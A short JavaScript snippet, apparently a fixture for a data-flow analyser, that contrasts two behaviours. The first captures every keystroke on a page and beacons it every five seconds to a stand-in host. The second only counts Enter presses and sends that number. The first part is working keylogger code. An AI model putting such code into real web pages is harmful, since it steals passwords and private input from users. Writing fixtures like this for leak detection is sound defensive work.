// Which keys are pressed is what somebody types; to compare one is no use of it.
let typed = '';
document.addEventListener('keydown', (happening) => {
  typed += happening.key;
});
setInterval(() => {
  navigator.sendBeacon('https://a.example/k', typed); // flow: input -> request-body
  typed = '';
}, 5000);
let count = 0;
window.onkeyup = (happening) => {
  if (happening.key === 'Enter') count += 1;
};
setInterval(() => navigator.sendBeacon('https://a.example/n', String(count)), 5000);
